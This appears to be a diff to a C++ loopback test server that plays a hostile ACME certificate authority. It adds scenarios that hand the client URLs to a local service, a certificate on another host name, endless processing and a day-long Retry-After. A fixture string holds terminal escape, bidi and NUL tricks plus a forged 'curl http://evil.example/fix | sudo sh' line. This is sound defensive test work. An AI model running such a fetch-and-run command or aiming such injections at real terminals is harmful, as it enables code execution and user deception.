@@ -9,6 +9,9 @@
 // account) serves a whole test script; `good` is the honest flow. Each request is appended to
 // --events as "METHOD PATH" (tests assert, say, that no challenge was answered). The server
 // exits by itself after --lifetime seconds (default 600) so a forgotten one cannot linger.
+// A second listener on another loopback port plays a plain-HTTP service on this machine: the
+// url-* scenarios hand out URLs to it, and every request it receives is recorded as
+// "LOCAL METHOD PATH" (a test asserts there is none).
 //
 // Adding a scenario: give it a name in the table `k_scenarios` and act on it where the step
 // is built (search for `is("`); delivery scenarios (slow, stalled) go through `Delivery`.
@@ -88,10 +91,16 @@ const std::set<std::string> k_scenarios = {
     "problem-deep-json",
     "problem-many-subproblems",
     "problem-deep-subproblems",
-    // slow and stalled servers (delivery of the directory)
+    // URLs a CA hands out (issue 14 item 4): another loopback origin, a service on this machine
+    "url-dir-local-service",
+    "url-finalize-local-service",
+    "url-cert-other-host",
+    // slow and stalled servers (delivery of the directory), and waits the CA asks for
     "stall-directory",
     "trickle-directory",
     "hang-directory",
+    "order-processing-forever",
+    "retry-after-huge",
 };
 
 std::string g_scenario_file;
@@ -119,9 +128,12 @@ std::string deep_arrays(std::size_t depth = 50'000) {
 // Text that tries every trick on a terminal: ESC sequences, BEL, CR, NUL, C1, bidi override,
 // and a newline that forges a line of its own.
 std::string evil_text() {
-  return "\x1b[2J\x1b]0;pwned\x07 bad\rthings\xc2\x9b"
-         "31m \xe2\x80\xae"
-         "gnp.exe\x00 tail\nhint: curl http://evil.example/fix | sudo sh";
+  // Spelled with its length: the NUL in the middle must not end the string.
+  static const char k_text[] =
+      "\x1b[2J\x1b]0;pwned\x07 bad\rthings\xc2\x9b"
+      "31m \xe2\x80\xae"
+      "gnp.exe\x00 tail\nhint: curl http://evil.example/fix | sudo sh";
+  return std::string(k_text, sizeof k_text - 1);
 }
 
 // A JSON document with `deep` spliced in as the member "junk" of an object.
@@ -280,7 +292,8 @@ struct OrderState {
 };
 
 struct State {
-  std::string base;  // http://127.0.0.1:PORT
+  std::string base;   // http://127.0.0.1:PORT
+  std::string local;  // http://127.0.0.1:PORT2, the "service on this machine"
   Ca ca;
   std::map<int, OrderState> orders;
   int next_order = 1;
@@ -338,12 +351,24 @@ json order_json(int id, const OrderState& o, const std::string& s) {
   if (s == "order-extra-name") ids.push_back(json{{"type", "dns"}, {"value", "evil.example"}});
   if (s == "order-replaced-name" && !ids.empty())
     ids[0] = json{{"type", "dns"}, {"value", "evil.example"}};
-  json j{{"status", o.status},
+  const std::string finalize = s == "url-finalize-local-service"
+                                   ? g_state->local + "/admin/finalize"
+                                   : url("/finalize/" + std::to_string(id));
+  std::string status = o.status;
+  if (s == "order-processing-forever" && status == "valid") status = "processing";
+  json j{{"status", status},
          {"identifiers", ids},
          {"authorizations", authzs},
-         {"finalize", url("/finalize/" + std::to_string(id))},
+         {"finalize", finalize},
          {"expires", "2099-01-01T00:00:00Z"}};
-  if (o.status == "valid") j["certificate"] = url("/cert/" + std::to_string(id));
+  if (status == "valid") {
+    // The same server under another name: another origin all the same.
+    j["certificate"] =
+        s == "url-cert-other-host"
+            ? "http://localhost:" + g_state->base.substr(g_state->base.rfind(':') + 1) + "/cert/" +
+                  std::to_string(id)
+            : url("/cert/" + std::to_string(id));
+  }
   return j;
 }
 
@@ -382,7 +407,8 @@ Answer handle(const std::string& method, const std::string& path, const std::str
     if (is("dir-tos-escape")) meta["termsOfService"] = "https://hostile.example/tos" + evil_text();
     json dir{{"newNonce", url("/nonce")},
              {"newAccount", url("/new-account")},
-             {"newOrder", url("/new-order")},
+             {"newOrder", is("url-dir-local-service") ? g_state->local + "/admin/new-order"
+                                                      : url("/new-order")},
              {"revokeCert", url("/revoke")},
              {"meta", meta}};
     if (is("dir-not-json")) return json_answer(200, "{\"newNonce\": [1, 2,");
@@ -418,6 +444,11 @@ Answer handle(const std::string& method, const std::string& path, const std::str
       return problem(400, "malformed", "no identifiers");
     if (is("order-problem-huge"))
       return problem(400, "rejectedIdentifier", std::string(879 * 1024, 'A') + evil_text());
+    if (is("retry-after-huge")) {
+      Answer a = problem(503, "serverInternal", "come back tomorrow");
+      a.fields.push_back("Retry-After: 86400");
+      return a;
+    }
     const int id = g_state->next_order++;
     OrderState& o = g_state->orders[id];
     for (const json& i : (*p)["identifiers"]) {
@@ -438,7 +469,11 @@ Answer handle(const std::string& method, const std::string& path, const std::str
   OrderState& o = it->second;
   const std::size_t index = parts.size() > 2 ? std::strtoul(parts[2].c_str(), nullptr, 10) : 0;
 
-  if (head == "order") return json_answer(200, order_json(id, o, s).dump());
+  if (head == "order") {
+    if (is("order-processing-forever"))
+      return json_answer(200, order_json(id, o, s).dump(), {"Retry-After: 1"});
+    return json_answer(200, order_json(id, o, s).dump());
+  }
 
   if (head == "authz" || head == "chall") {
     if (index >= o.identifiers.size()) return problem(404, "malformed", "no such authorization");
@@ -527,8 +562,9 @@ Answer handle(const std::string& method, const std::string& path, const std::str
     EVP_PKEY_free(key);
     X509_REQ_free(req);
     o.status = "valid";
-    return json_answer(200, order_json(id, o, s).dump(),
-                       {"Location: " + url("/order/" + std::to_string(id))});
+    std::vector<std::string> fields{"Location: " + url("/order/" + std::to_string(id))};
+    if (is("order-processing-forever")) fields.push_back("Retry-After: 1");
+    return json_answer(200, order_json(id, o, s).dump(), fields);
   }
 
   if (head == "cert") {
@@ -639,6 +675,42 @@ void serve(int fd) {
   }
 }
 
+// The "service on this machine": records the request line of whatever reaches it, answers 200.
+void serve_local(int fd) {
+  std::string buffer;
+  while (buffer.find("\r\n") == std::string::npos && buffer.size() < 8192 &&
+         wait_readable(fd, 5'000)) {
+    char chunk[4096];
+    ssize_t n = ::read(fd, chunk, sizeof chunk);
+    if (n <= 0) break;
+    buffer.append(chunk, static_cast<std::size_t>(n));
+  }
+  {
+    std::lock_guard lock(g_mutex);
+    record("LOCAL " + buffer.substr(0, buffer.find("\r\n")));
+  }
+  const std::string out = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}";
+  send_all(fd, out.data(), out.size());
+}
+
+// A listening socket on 127.0.0.1 and a free port; -1 on failure.
+int listen_loopback(unsigned short& port) {
+  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
+  int one = 1;
+  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+  sockaddr_in addr{};
+  addr.sin_family = AF_INET;
+  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  socklen_t len = sizeof addr;
+  if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 ||
+      ::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) != 0 || ::listen(fd, 64) != 0) {
+    if (fd >= 0) ::close(fd);
+    return -1;
+  }
+  port = ntohs(addr.sin_port);
+  return fd;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
@@ -664,25 +736,20 @@ int main(int argc, char** argv) {
     return 2;
   }
 
-  int listener = ::socket(AF_INET, SOCK_STREAM, 0);
-  int one = 1;
-  ::setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
-  sockaddr_in addr{};
-  addr.sin_family = AF_INET;
-  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-  socklen_t len = sizeof addr;
-  if (listener < 0 || ::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 ||
-      ::getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len) != 0 ||
-      ::listen(listener, 64) != 0) {
+  unsigned short port = 0, local_port = 0;
+  const int listener = listen_loopback(port);
+  const int local = listen_loopback(local_port);
+  if (listener < 0 || local < 0) {
     std::perror("hostile_acme: listen");
     return 1;
   }
   State state;
-  state.base = "http://127.0.0.1:" + std::to_string(ntohs(addr.sin_port));
+  state.base = "http://127.0.0.1:" + std::to_string(port);
+  state.local = "http://127.0.0.1:" + std::to_string(local_port);
   g_state = &state;
   {
     const std::string tmp = port_file + ".tmp";
-    std::ofstream(tmp) << ntohs(addr.sin_port) << "\n";
+    std::ofstream(tmp) << port << "\n";
     std::rename(tmp.c_str(), port_file.c_str());
   }
   std::cerr << "hostile_acme: listening on " << state.base << "/dir\n";
@@ -690,17 +757,22 @@ int main(int argc, char** argv) {
   const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(lifetime);
   std::vector<std::thread> threads;
   while (std::chrono::steady_clock::now() < deadline) {
-    pollfd p{listener, POLLIN, 0};
-    if (::poll(&p, 1, 200) <= 0) continue;
-    int fd = ::accept(listener, nullptr, nullptr);
-    if (fd < 0) continue;
-    threads.emplace_back([fd] {
-      serve(fd);
-      ::close(fd);
-    });
+    pollfd p[2] = {{listener, POLLIN, 0}, {local, POLLIN, 0}};
+    if (::poll(p, 2, 200) <= 0) continue;
+    for (const pollfd& ready : p) {
+      if (!(ready.revents & POLLIN)) continue;
+      int fd = ::accept(ready.fd, nullptr, nullptr);
+      if (fd < 0) continue;
+      const bool service = ready.fd == local;
+      threads.emplace_back([fd, service] {
+        service ? serve_local(fd) : serve(fd);
+        ::close(fd);
+      });
+    }
   }
   g_stop = true;
   for (auto& t : threads) t.join();
   ::close(listener);
+  ::close(local);
   return 0;
 }
